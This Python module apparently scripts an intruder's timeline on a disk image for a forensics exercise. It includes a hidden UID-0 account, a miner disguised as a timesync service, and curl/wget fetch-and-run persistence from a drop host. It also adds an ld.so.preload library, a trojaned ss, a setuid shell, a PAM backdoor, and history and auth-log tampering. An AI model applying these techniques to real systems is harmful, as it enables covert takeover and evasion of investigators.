"""The attacker's acts on the host, H1 to H14: each is done as a shell would do it, at its minute."""
import hashlib
import os
import shutil
from pathlib import Path

from . import keys, payload, story as s

OLD = 1365292800  # 2013-04-07: what H5 sets the miner's mtime to
GAP = (-212.0, -200.0)
PASSWORD = "ltc-moon-2026"


class HostAttack:
    def __init__(self, guest, story, materials):
        self.guest, self.story, self.materials = guest, story, Path(materials)
        self.k = keys.all_keys(story)
        self.admin = guest.owner("admin")

    def at(self, minutes):
        self.guest.clock(self.story.at(minutes))

    def dropper(self):
        """-219: i.sh leaves its second stage."""
        self.at(-219)
        self.guest.mkdir("/var/tmp/.x", 0o755)
        self.guest.write(s.DROPPER, payload.install_script(), 0o755)

    def keys_and_accounts(self):
        g = self.guest
        self.at(-208)  # H2
        g.write("/home/admin/.ssh/authorized_keys", self.k["attacker"].public + "\n", append=True)
        self.at(-207.4)
        g.write("/root/.ssh/authorized_keys", self.k["attacker"].public + "\n", append=True)
        self.at(-206.1)  # H3
        g.chroot("useradd", "-o", "-u", "0", "-g", "0", "-M", "-d", "/root", "-s", "/bin/bash", "sysd")
        self.at(-206)
        g.chroot("chpasswd", "-e", stdin="sysd:" + keys.password_hash(PASSWORD, self.story.hex("salt", 12)) + "\n")
        g.write(s.SUDOERS, "sysd ALL=(ALL) NOPASSWD: ALL\nwww-data ALL=(ALL) NOPASSWD: ALL\n", 0o440)

    def miner(self):
        g = self.guest
        self.at(-205)  # H4
        g.mkdir(s.MINER_DIR)
        g.write(s.MINER, (self.materials / "miner").read_bytes(), 0o755)
        g.write(s.MINER_CONFIG, payload.miner_config(self.story))
        self.at(-204)  # H5
        os.utime(g.path(s.MINER), (OLD, OLD))
        self.at(-203)  # H6
        g.write(s.UNIT, "[Unit]\nDescription=Network Time Synchronization Helper\nDocumentation=man:systemd-timesyncd.service(8)\nAfter=network-online.target\n\n"
                f"[Service]\nExecStart={s.MINER} -c {s.MINER_CONFIG}\nRestart=always\nRestartSec=20\nNice=-5\n\n[Install]\nWantedBy=multi-user.target\n")
        g.path(s.UNIT_LINK).symlink_to(s.UNIT)

    def persistence(self):
        g = self.guest
        fetch = f"curl -fsSL http://{s.DROP_HOST}/u.sh | bash"
        self.at(-202)  # H7
        g.write(s.CRON, f"*/10 * * * * root {fetch} >/dev/null 2>&1\n")
        g.write("/etc/rc.local", f"#!/bin/sh -e\n(wget -qO- http://{s.DROP_HOST}/u.sh | sh) &\nexit 0\n", 0o755)
        g.write(s.MINER_LOG, payload.miner_log(self.story, -202, -202))
        self.at(-201)  # H8
        g.write(s.PRELOAD_LIB, (self.materials / "preload.so").read_bytes())
        g.write("/etc/ld.so.preload", s.PRELOAD_LIB + "\n")
        self.at(-200)  # H9
        ss = g.path("/usr/bin/ss")
        times = ss.stat()
        shutil.move(ss, g.path(s.MINER_DIR + "/.ss"))
        g.write("/usr/bin/ss", payload.ss_wrapper(), 0o755)
        os.utime(ss, ns=(times.st_mtime_ns, times.st_mtime_ns))
        self.at(-199)  # H10
        g.write(s.SETUID_SHELL, g.path("/usr/bin/bash").read_bytes(), 0o755)
        g.path(s.SETUID_SHELL).chmod(0o4755)
        self.at(-198)  # H11
        g.write(s.PAM_MODULE, (self.materials / "pam.so").read_bytes())
        common = g.path("/etc/pam.d/common-auth")
        common.write_text(common.read_text().replace("auth\t[success=1", "auth\tsufficient\t\t\tpam_timesync.so\nauth\t[success=1", 1))
        if "pam_timesync" not in common.read_text():
            raise RuntimeError("common-auth is not as Debian writes it")

    def history(self):
        """H12: bash writes times as #seconds before each command."""
        lines = [(-209.6, "id; uname -a; nproc"), (-209.1, "ls -la /var/tmp/.x"), (-208.6, "echo '" + self.k["attacker"].public + "' >> ~/.ssh/authorized_keys"),
                 (-207.4, "cat k.pub | sudo tee -a /root/.ssh/authorized_keys"), (-206.2, "sudo bash"), (-206.1, "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysd"),
                 (-205.6, f"wget -q http://{s.DROP_HOST}/m.tgz -O /tmp/m.tgz && tar xzf /tmp/m.tgz -C {s.MINER_DIR}"), (-204.1, f"touch -d '2013-04-07' {s.MINER}"),
                 (-202.9, "systemctl daemon-reload && systemctl enable --now systemd-timesyncd-helper"), (-201.2, f"echo {s.PRELOAD_LIB} > /etc/ld.so.preload"),
                 (-199.2, f"cp /bin/bash {s.SETUID_SHELL}; chmod 4755 {s.SETUID_SHELL}"), (-192.5, "grep -c 203.0.113.66 /var/log/auth.log /var/log/auth.log.1"),
                 (-190.4, "ln -sf /dev/null /root/.bash_history"), (-190.1, "history -a")]
        self.at(-190.4)
        root = self.guest.path("/root/.bash_history")
        root.unlink(missing_ok=True)
        root.symlink_to("/dev/null")
        self.at(-190)
        self.guest.write("/home/admin/.bash_history", "".join(f"#{int(self.story.at(m))}\n{text}\n" for m, text in lines), 0o600, self.admin, append=True)

    def look_at_logs(self):
        """-192.5: reading is what puts the old inodes into the filesystem's journal (access time)."""
        self.at(-192.5)
        for name in ["/var/log/auth.log", "/var/log/auth.log.1", s.DROPPER]:
            self.guest.path(name).read_bytes()
            self.guest.fsync(name)

    def cut_log(self):
        """H13: sed -i, so a new inode under the old name."""
        self.at(-189)
        log = self.guest.path("/var/log/auth.log")
        low, high = (s.iso(self.story.at(m))[:19] for m in GAP)
        kept = [line for line in log.read_text().splitlines(True) if not low <= line[:19] <= high]
        copy = log.with_name("sedGx81Qa")
        copy.write_text("".join(kept))
        os.chown(copy, 0, 4)
        copy.chmod(0o640)
        copy.rename(log)

    def delete(self):
        """H14. What is deleted is described first: no one can ask afterwards."""
        out = []
        for name in [s.DROPPER, "/var/log/auth.log.1"]:
            path = self.guest.path(name)
            content = path.read_bytes()
            listing = self.guest.sh("filefrag", "-v", "-b4096", path)
            out.append({"path": name, "inode": path.stat().st_ino, "size": len(content), "sha256": hashlib.sha256(content).hexdigest(), "extents": _extents(listing)})
        os.sync()  # the transactions that still show the files end here
        self.at(-188)
        for item in out:
            self.guest.path(item["path"]).unlink()
        return out


def _extents(listing):
    """[(logical, physical, blocks)] of filefrag -v."""
    found = []
    for line in listing.splitlines():
        parts = line.replace("..", " ").replace(":", " ").split()
        if parts and parts[0].isdigit() and len(parts) >= 6 and line.lstrip()[0].isdigit():
            found.append([int(parts[1]), int(parts[3]), int(parts[5])])
    return found
